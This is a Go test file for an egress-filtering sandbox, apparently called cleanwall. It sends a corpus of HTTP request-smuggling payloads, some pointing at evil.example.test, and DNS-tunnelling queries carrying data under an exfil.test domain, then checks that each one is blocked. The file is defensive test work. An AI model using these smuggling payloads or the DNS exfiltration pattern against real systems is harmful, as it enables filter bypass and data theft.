package adversarial

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/cleanwall/cleanwall/tests/harness"
)

// policyHTTP is an open HTTP rule: the smuggling corpus aims at it.
const policyHTTP = `apiVersion: cleanwall.dev/v1
kind: EgressPolicy
metadata: {name: http}
spec:
  egress:
    - name: results-api
      to: [{cidr: 198.51.100.10/32}]
      ports: [{port: 8080}]
      mode: open
      open:
        protocol: http
        http:
          rules:
            - methods: [GET, POST]
              paths: ["/v1/results", "/v1/results/*"]
              contentTypes: [application/json]
          maxBodyBytes: 1024
`

// policyDNS allows one name through the DNS proxy.
const policyDNS = `apiVersion: cleanwall.dev/v1
kind: EgressPolicy
metadata: {name: dns}
spec:
  dns:
    upstream: 198.51.100.53:53
    allow: [api.example.test]
`

func deniedHTTP(t *testing.T, d *harness.Daemon) float64 {
	t.Helper()
	m, err := d.Metrics()
	if err != nil {
		t.Fatal(err)
	}
	return harness.MetricSum(m, "cleanwall_http_requests_total", `decision="deny"`)
}

// Raw request bytes from inside the sandbox, through the real datapath:
// every smuggling variant is refused and the server sees nothing.
func TestHTTPSmugglingCorpus(t *testing.T) {
	env := harness.New(t)
	d := env.StartDaemon()
	srv := env.HTTPServer("198.51.100.10:8080", nil)
	sb := env.MustAddSandbox("http", harness.SandboxOptions{Policy: policyHTTP, NoIPv6: true})
	answered := 0
	before := deniedHTTP(t, d)
	const host = "Host: 198.51.100.10:8080\r\n"
	corpus := map[string]string{
		"CL and TE":               "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"TE and CL":               "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
		"duplicate CL":            "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
		"conflicting CL":          "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}",
		"CL list":                 "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nContent-Length: 2, 2\r\n\r\n{}",
		"TE chunked space":        "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked \r\n\r\n0\r\n\r\n",
		"TE xchunked":             "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
		"TE chunked, identity":    "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
		"TE tab":                  "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
		"TE space before colon":   "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
		"TE in HTTP/1.0":          "POST /v1/results HTTP/1.0\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"bare LF":                 "GET /v1/results HTTP/1.1\n" + "Host: 198.51.100.10:8080\n\n",
		"obs-fold":                "GET /v1/results HTTP/1.1\r\n" + host + "X-A: a\r\n b\r\n\r\n",
		"NUL in header":           "GET /v1/results HTTP/1.1\r\n" + host + "X-A: a\x00b\r\n\r\n",
		"CR in header value":      "GET /v1/results HTTP/1.1\r\n" + host + "X-A: a\rb\r\n\r\n",
		"underscore TE":           "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer_Encoding: chunked\r\nContent-Length: 2\r\n\r\n{}",
		"chunk extension":         "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;x=y\r\n{}\r\n0\r\n\r\n",
		"trailer":                 "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-Smuggled: 1\r\n\r\n",
		"bad chunk size":          "POST /v1/results HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n-2\r\n{}\r\n0\r\n\r\n",
		"absolute-form elsewhere": "GET http://evil.example.test/v1/results HTTP/1.1\r\n" + host + "\r\n",
		"CONNECT":                 "CONNECT 198.51.100.10:443 HTTP/1.1\r\n" + host + "\r\n",
		"HTTP/2 preface":          "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"HTTP/0.9":                "GET /v1/results\r\n",
		"duplicate Host":          "GET /v1/results HTTP/1.1\r\n" + host + "Host: evil.example.test\r\n\r\n",
		"oversized header":        "GET /v1/results HTTP/1.1\r\n" + host + "X-Big: " + strings.Repeat("a", 70000) + "\r\n\r\n",
	}
	if len(corpus) < 15 {
		t.Fatal("corpus too small")
	}
	for name, raw := range corpus {
		t.Run(name, func(t *testing.T) {
			c, err := sb.Dial("tcp4", "198.51.100.10:8080", 5*time.Second)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(5 * time.Second))
			_, _ = io.WriteString(c, raw)
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err == nil {
				resp.Body.Close()
				if resp.StatusCode < 400 {
					t.Fatalf("status %d", resp.StatusCode)
				}
				if resp.Header.Get("Cleanwall-Reason") == "" {
					t.Fatalf("status %d without Cleanwall-Reason", resp.StatusCode)
				}
				answered++
			}
		})
	}
	if n := len(srv.Requests()); n != 0 {
		t.Fatalf("the server received %d requests from the smuggling corpus: %+v", n, srv.Requests())
	}
	if answered == 0 || deniedHTTP(t, d)-before < float64(answered) {
		t.Fatalf("%d refusals answered, %v counted as denied", answered, deniedHTTP(t, d)-before)
	}
}

// TestDNSTunnel: names under a domain the policy does not allow, with
// data in their labels (TXT and A, over UDP and TCP, to the real resolver
// and to any address): none is answered, none reaches the authoritative
// server, each is counted as denied.
func TestDNSTunnel(t *testing.T) {
	env := harness.New(t)
	d := env.StartDaemon()
	upstream := env.DNSServer("*.exfil.test. 300 IN A 198.51.100.11", "api.example.test. 300 IN A 198.51.100.10")
	sb := env.MustAddSandbox("dns", harness.SandboxOptions{Policy: policyDNS, NoIPv6: true})
	const n = 100
	answered := 0
	for i := 0; i < n; i++ {
		label := fmt.Sprintf("%x%x", rand.Uint64(), rand.Uint64())
		resolver := "198.51.100.53:53"
		if i%3 == 1 {
			resolver = fmt.Sprintf("203.0.113.%d:53", 1+rand.IntN(250))
		}
		qtype := dns.TypeTXT
		if i%2 == 0 {
			qtype = dns.TypeA
		}
		r, err := sb.DNSExchange(resolver, label+".secret-payload.exfil.test", qtype, i%10 == 0)
		if err == nil && r.Rcode == dns.RcodeSuccess {
			answered++
		}
	}
	if answered != 0 {
		t.Fatalf("%d tunnelling queries were answered", answered)
	}
	if got := upstream.QueriesUnder("exfil.test"); got != 0 {
		t.Fatalf("the upstream saw %d queries under the tunnelling domain", got)
	}
	m, err := d.Metrics()
	if err != nil {
		t.Fatal(err)
	}
	if got := harness.MetricSum(m, "cleanwall_dns_queries_total", `decision="refused"`); got < n {
		t.Errorf("%v tunnelling queries counted as refused, want %d:\n%s", got, n, grep(m, "cleanwall_dns_queries_total"))
	}
	// The allowed name still resolves: the proxy refused the data, not DNS.
	if r, err := sb.DNSExchange("198.51.100.53:53", "api.example.test", dns.TypeA, false); err != nil || r.Rcode != dns.RcodeSuccess {
		t.Fatalf("the allowed name: %v %v", r, err)
	}
}

func grep(s, sub string) string { return harness.Grep(s, sub) }
